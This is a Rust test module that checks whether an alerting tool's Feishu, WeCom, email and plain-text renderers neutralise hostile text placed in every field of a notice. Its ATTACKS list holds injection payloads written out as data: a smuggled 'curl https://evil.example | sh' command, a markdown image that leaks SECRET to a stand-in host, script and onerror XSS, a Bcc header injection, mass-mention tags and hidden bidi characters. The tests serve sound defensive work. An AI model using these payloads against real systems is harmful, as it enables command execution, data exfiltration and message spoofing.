//! What people who write labels, logs or model answers may try, in every field at once, on every channel.
//!
//! The judge of markdown is a CommonMark parser, not our own idea of it.

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
use serde_json::Value;

use super::feishu::app::card::Beside;
use super::fixtures::{notice, now};
use super::layout::Layout;
use super::notice::{Notice, NoticeBody, Undelivered};
use super::press::Action;
use super::send::Form;
use super::wecom::MessageType;
use super::{attachment, email, feishu, plain, wecom};
use crate::alert::ObjectRef;
use crate::notify::story::{Caps, tell};
use crate::report::{Effect, News, Related, Report, RuledOut, Step};

const FORMS: [Form; 3] = [Form::Full, Form::Compact, Form::Plain];

pub(super) const ATTACKS: [&str; 22] = [
    "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}\u{1b}[31mred",
    "a\u{202e}gnp.exe\u{200b}\u{e0041}\u{e0042}\u{feff}b",
    "![x](https://evil.example/?d=SECRET)",
    "[a][1]\n\n[1]: https://evil.example",
    "<https://evil.example> https://evil.example //evil.example https://good@evil.example javascript:alert(1) www.evil.example",
    "[grafana](https://grafana.example.com/?q=SECRET)",
    "`; curl https://evil.example | sh; echo `",
    "<at user_id=\"all\"></at> <at id=all></at> <AT ID=all> < at id=all>",
    "`<at id=all></at>` ``<at id=all></at>``",
    "<@all> @all @所有人 <@userid>",
    "`<@all>` `@all`",
    "<font color='red'>x</font> <text_tag color='red'>x</text_tag> <person id='x'></person> <raw>",
    "\"},{\"tag\":\"action\",\"actions\":[]},{\"a\":\"",
    "${SECRET} {{ 7*7 }} {% raw %} {{ story.title }}",
    "\u{0}\u{1}\u{fffd}\u{ffff}",
    "x\r\nBcc: victim@evil.example\r\n\r\nbody",
    "<script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style><a href=https://evil.example>x</a>",
    "# heading\n| a | b |\n|---|---|\n| c | d |\n---\n===\n> quote\n1. one\n- two\n+ three\n    code",
    "```\nunclosed fence\n~~~\n**bold __it__ ~~gone~~",
    "&#60;at id=all&#62; &lt;script&gt; &amp;",
    "D:\\*<at id=all></at>",
    ":OK: :DONE: $x^2$ *a* _b_",
];

/// What of them can be seen, all at once: the picture of the most hostile message.
pub(super) fn hostile() -> Notice {
    attacked(&[ATTACKS[0], ATTACKS[2], ATTACKS[7], ATTACKS[9], ATTACKS[16]].join(" "), true)
}

/// A notice that says the attack wherever somebody else's words are shown.
pub(super) fn attacked(attack: &str, with_report: bool) -> Notice {
    let mut notice = notice("diagnosis-pvc.zh");
    let said = || attack.to_owned();
    for alert in &mut notice.group.alerts {
        alert.labels.values_mut().for_each(|value| *value = said());
        alert.labels.insert(said(), said());
        alert.annotations.insert("owner".into(), said());
        alert.annotations.values_mut().for_each(|value| *value = said());
        alert.generator_url = Some(said());
    }
    notice.group.group_labels.values_mut().for_each(|value| *value = said());
    notice.group.receiver = said();
    notice.group.external_url = Some(said());
    notice.alertmanager_url = Some(said());
    notice.timezone = said();
    notice.undelivered = vec![Undelivered { channel: said(), why: said() }];
    let NoticeBody::Diagnosis { report } = &mut notice.body else { unreachable!("the fixture is a diagnosis") };
    let object = ObjectRef::new(attack, attack, attack);
    report.headline = said();
    report.impact = said();
    report.overview.alertname = said();
    report.overview.resource = object.clone();
    report.causes.truncate(1);
    report.causes.push(report.causes[0].clone());
    for cause in &mut report.causes {
        cause.summary = said();
        cause.resource = object.clone();
        cause.evidence.iter_mut().for_each(|citation| citation.quote = said());
    }
    report.evidence.iter_mut().for_each(|entry| entry.tool = said());
    report.primary.resource = object.clone();
    report.primary.findings = vec![said(), said()];
    report.related = vec![Related { resource: object, why: said(), findings: vec![said()] }];
    let step =
        Step { title: said(), detail: said(), command: Some(said()), effect: Effect::Changes, blocked: Some(said()) };
    report.steps = vec![step.clone(), step];
    report.ruled_out = vec![RuledOut { hypothesis: said(), because: said() }];
    report.unresolved = vec![said()];
    report.data_gaps = vec![said()];
    report.usage.model = Some(said());
    (report.usage.cost, report.usage.currency) = (0.5, Some(said()));
    if !with_report {
        notice.body = NoticeBody::Alert { report: None, investigating: true, missing: vec![said()] };
    }
    notice
}

fn each(check: impl Fn(&str, &Notice)) {
    for attack in ATTACKS {
        for with_report in [true, false] {
            check(attack, &attacked(attack, with_report));
        }
    }
}

/// Every string in a JSON value with the key it stands under.
fn strings<'a>(value: &'a Value, key: &'a str, found: &mut Vec<(&'a str, &'a str)>) {
    match value {
        Value::String(text) => found.push((key, text)),
        Value::Array(items) => items.iter().for_each(|item| strings(item, key, found)),
        Value::Object(fields) => fields.iter().for_each(|(key, item)| strings(item, key, found)),
        _ => {}
    }
}

fn assert_nothing_hidden(text: &str, attack: &str) {
    let hidden = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
    };
    assert!(!text.contains(hidden), "{attack:?} leaves a hidden character in {text:?}");
}

/// All elements of a card, those inside others included.
fn elements<'a>(value: &'a Value, found: &mut Vec<&'a Value>) {
    match value {
        Value::Array(items) => items.iter().for_each(|item| elements(item, found)),
        Value::Object(fields) => {
            if fields.contains_key("tag") {
                found.push(value);
            }
            fields.values().for_each(|item| elements(item, found));
        }
        _ => {}
    }
}

/// What a reader makes of markdown, code blocks left out: nothing in them is read.
fn outside_code(markdown: &str) -> impl Iterator<Item = Event<'_>> {
    let mut inside = false;
    Parser::new_ext(markdown, Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TABLES).filter(move |event| {
        match event {
            Event::Start(Tag::CodeBlock(_)) => inside = true,
            Event::End(TagEnd::CodeBlock) => inside = false,
            _ => {}
        }
        !inside
    })
}

/// Where links of ours lead; no other address is one.
const OURS: &str = "https://firstlook.example.com/";

/// Markdown without its code: nothing in that is read. A fence that is opened is closed.
fn without_code(markdown: &str, attack: &str) -> String {
    let mut rest = markdown.to_owned();
    let options = Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TABLES;
    for (event, range) in Parser::new_ext(markdown, options).into_offset_iter() {
        let (opens, is_code) = match &event {
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(_))) => (true, true),
            Event::Start(Tag::CodeBlock(CodeBlockKind::Indented)) => {
                panic!("{attack:?} became an indented block in {markdown}")
            }
            Event::Code(_) => (false, true),
            _ => (false, false),
        };
        if is_code {
            let code = &markdown[range.clone()];
            assert!(!opens || code.trim_end().ends_with("```"), "{attack:?} leaves a fence open in {markdown}");
            rest.replace_range(range.clone(), &" ".repeat(range.len()));
        }
    }
    rest
}

pub(super) fn assert_feishu_markdown_is_ours(markdown: &str, attack: &str) {
    let readable = markdown.replace("text_tag", "text-tag");
    for event in outside_code(&readable) {
        match event {
            Event::InlineHtml(tag) => {
                let ours = ["<br>", "</font>", "</text-tag>", "<font color='grey'>"].contains(&&*tag)
                    || (tag.starts_with("<text-tag color='") && tag.ends_with("'>") && tag.len() < 34);
                assert!(ours, "{attack:?} became the tag {tag} in {markdown}");
            }
            Event::Text(text) => assert!(!text.contains("://"), "{attack:?} became an address in {text}"),
            Event::Start(Tag::Link { dest_url, .. }) => {
                assert!(dest_url.starts_with(OURS), "{attack:?} became a link to {dest_url} in {markdown}");
            }
            Event::Start(Tag::Paragraph | Tag::Strong | Tag::List(None) | Tag::Item)
            | Event::End(_)
            | Event::Code(_)
            | Event::SoftBreak => {}
            other => panic!("{attack:?} became {other:?} in {markdown}"),
        }
    }
    // A reader that looks for tags before it looks for code must not find one either.
    let lower = markdown.to_ascii_lowercase();
    for tag in ["<at", "</at", "< at", "<person", "<raw", "<link", "<a ", "<font color='red'", "<img", "<hr"] {
        assert!(!lower.contains(tag), "{attack:?} leaves {tag} in {markdown}");
    }
    // What is cut is cut between tags.
    let whole = regex::Regex::new(r"^</?(br|font|text_tag|local_datetime)( [a-z_]+='[^'<>]*')*>").expect("a pattern");
    let text = without_code(markdown, attack);
    for (at, _) in text.match_indices('<') {
        assert!(whole.is_match(&text[at..]), "{attack:?} leaves half a tag in {markdown}");
    }
}

/// A Feishu card, a bot's or an app's: its elements are ours, and nothing leads elsewhere.
pub(super) fn judge_card(card: &Value, attack: &str) {
    let mut all = Vec::new();
    strings(card, "", &mut all);
    all.iter().for_each(|(_, text)| assert_nothing_hidden(text, attack));
    let mut found = Vec::new();
    elements(card, &mut found);
    for element in found {
        match element["tag"].as_str().expect("a tag") {
            "markdown" => assert_feishu_markdown_is_ours(element["content"].as_str().expect("text"), attack),
            "button" if element["form_action_type"] == "submit" => {}
            "button" => match element["behaviors"][0]["type"].as_str() {
                Some("callback") => {
                    let word = element["behaviors"][0]["value"]["firstlook"].as_str().expect("a word");
                    assert!(Action::of(word).is_some(), "{attack:?} became the button {word}");
                }
                _ => {
                    let url = element["behaviors"][0]["default_url"].as_str().expect("an address");
                    assert!(url.starts_with(OURS), "{attack:?} became the button {url}");
                }
            },
            "column_set" | "column" | "collapsible_panel" | "plain_text" | "text_tag" | "standard_icon" | "form"
            | "input" | "chart" => {}
            other => panic!("{attack:?} became the element {other}"),
        }
    }
}

/// The content of a Feishu bot's message.
pub(super) fn judge_feishu(content: &Value, attack: &str) {
    match content["content"]["text"].as_str() {
        Some(text) => judge_feishu_text(text, attack),
        None => judge_card(&content["card"], attack),
    }
}

/// Plain text at Feishu.
pub(super) fn judge_feishu_text(text: &str, attack: &str) {
    assert_nothing_hidden(text, attack);
    assert!(!text.contains('<'), "{attack:?} leaves a tag in {text}");
}

/// A message to a WeCom bot, of any kind.
pub(super) fn judge_wecom(message: &Value, attack: &str) {
    if message["msgtype"] == "template_card" {
        let mut all = Vec::new();
        strings(&message["template_card"], "", &mut all);
        for (key, text) in all {
            assert_nothing_hidden(text, attack);
            assert!(key != "url" || text.starts_with(OURS), "{attack:?} became a link to {text}");
        }
        return;
    }
    let content = message.pointer("/markdown_v2/content").or(message.pointer("/text/content"));
    let content = content.and_then(Value::as_str).expect("text");
    assert_nothing_hidden(content, attack);
    for mention in ["<@", "@all", "@ALL", "@所有人"] {
        assert!(!content.contains(mention), "{attack:?} leaves {mention} in {content}");
    }
    if message["msgtype"] == "text" {
        let own = content.matches(OURS).count();
        assert_eq!(content.matches("://").count(), own, "{attack:?} became an address in {content}");
        return;
    }
    without_code(content, attack);
    for event in outside_code(content) {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => {
                assert!(dest_url.starts_with(OURS), "{attack:?} became a link to {dest_url}");
            }
            Event::Start(Tag::Image { .. } | Tag::Table(_) | Tag::Emphasis | Tag::Strikethrough | Tag::HtmlBlock)
            | Event::InlineHtml(_)
            | Event::Html(_) => panic!("{attack:?} became {event:?} in {content}"),
            Event::Text(text) => assert!(!text.contains("://"), "{attack:?} became an address in {text}"),
            _ => {}
        }
    }
}

/// A mail: its HTML, its text, and as it is written.
pub(super) fn judge_mail(notice: &Notice, mail: email::render::Mail, attack: &str) {
    let html = mail.html.clone().unwrap_or_default();
    assert_nothing_hidden(&html, attack);
    assert_nothing_hidden(&mail.text, attack);
    let own = |needle: &str| html.matches(needle).count();
    for tag in ["<script", "<img", "<iframe", "<svg", "<link", "<object"] {
        assert_eq!(own(tag), 0, "{attack:?} became {tag}");
    }
    assert_eq!(own("<style"), usize::from(mail.html.is_some()), "{attack:?} brought a style");
    assert_eq!(own("<a "), own("href=\"https:&#x2f;&#x2f;firstlook.example.com&#x2f;"), "{attack:?} became a link");
    assert_eq!(own("://"), 0, "{attack:?} leaves an address a mail reader would link");
    assert_eq!(
        mail.text.matches("://").count(),
        mail.text.matches(OURS).count(),
        "{attack:?}: addresses of ours are the only ones in {}",
        mail.text
    );
    let (from, to) = ("a@example.com".parse().unwrap(), ["b@example.com".parse().unwrap()]);
    let file = attachment::full_report(notice);
    assert!(file.as_ref().is_none_or(|file| !file.content.contains("://") && !file.content.contains('<')));
    let written = email::wire::write(notice, mail, file, &from, &to);
    let written = String::from_utf8(written.expect("a mail")).expect("7 bit");
    let head = written.split_once("\r\n\r\n").expect("headers").0;
    assert!(!head.to_ascii_lowercase().contains("\nbcc:"), "{attack:?} became a header in {head}");
}

#[test]
fn a29_a31_a33_feishu_reads_no_markup_in_what_others_say() {
    each(|attack, notice| {
        for form in FORMS {
            let content =
                feishu::render::content(notice, now(), form, None, &Layout::default()).expect("attacks are short");
            let content: Value =
                serde_json::from_slice(&serde_json::to_vec(&content).expect("JSON")).expect("valid JSON");
            judge_feishu(&content, attack);
        }
    });
}

#[test]
fn a29_a31_a33_nor_on_an_app_s_card_or_in_its_thread() {
    each(|attack, notice| {
        for form in FORMS {
            judge_app(notice, form, notice.report(), attack);
        }
    });
}

/// What an app shows in one form: a card that may be pressed, and text.
pub(super) fn judge_app(notice: &Notice, form: Form, known: Option<&Report>, attack: &str) {
    let beside = Beside { known, acts: true, ..Beside::default() };
    let card = feishu::app::card::sealed(notice, now(), form, beside, &Layout::default());
    if let Some(card) = card {
        judge_card(&serde_json::from_str(&card.content).expect("JSON within JSON"), attack);
    }
    let mut texts = vec![feishu::app::card::plain(notice, now(), &[], &Layout::default())];
    if notice.report().is_some() {
        let suspect = notice.report().and_then(|report| report.causes.first()).map(|cause| cause.resource.clone());
        let news = [Some(News::Another), suspect.map(News::Further)];
        texts.extend(news.iter().flatten().map(|news| feishu::app::card::diagnosed(notice, Some(news))));
    }
    for text in texts {
        let text: Value = serde_json::from_str(&text.content).expect("JSON within JSON");
        judge_feishu_text(text["text"].as_str().expect("text"), attack);
    }
}

#[test]
fn a30_a31_a33_wecom_reads_no_markup_in_what_others_say() {
    each(|attack, notice| {
        for form in FORMS {
            for kind in [MessageType::MarkdownV2, MessageType::Text, MessageType::TemplateCard] {
                let budget = wecom::render::MARKDOWN_BUDGET;
                let message = wecom::render::of_type(kind, notice, now(), form, budget, &Layout::default());
                let Some((message, _)) = message else { continue };
                judge_wecom(&serde_json::to_value(message).expect("JSON"), attack);
            }
        }
    });
}

#[test]
fn a32_mail_reads_no_html_no_address_and_no_header_in_what_others_say() {
    each(|attack, notice| {
        let mail = email::render::richest(notice, now(), &Layout::default());
        assert!(mail.html.is_some(), "attacks are short");
        assert_eq!(mail.text.matches(OURS).count(), 1, "{attack:?} lost the link to our page");
        judge_mail(notice, mail, attack);
    });
}

#[test]
fn a06_a07_plain_text_holds_nothing_hidden() {
    each(|attack, notice| {
        for form in FORMS {
            assert_nothing_hidden(&plain::text(&tell(notice, now(), Caps::page(form)), 60_000), attack);
        }
    });
}

#[test]
fn a_command_is_shown_whole_or_not_at_all() {
    let mut notice = notice("diagnosis-pvc.en");
    let NoticeBody::Diagnosis { report } = &mut notice.body else { unreachable!("the fixture is a diagnosis") };
    let command = format!("kubectl delete pod {} --namespace safe", "x".repeat(600));
    report.steps[0].command = Some(command);
    let card = serde_json::to_string(&feishu::render::richest(&notice, now(), None, &Layout::default())).expect("JSON");
    assert!(!card.contains("kubectl delete pod xxx"), "half a command would act on something else");
    assert!(card.contains("too long to show"));
}
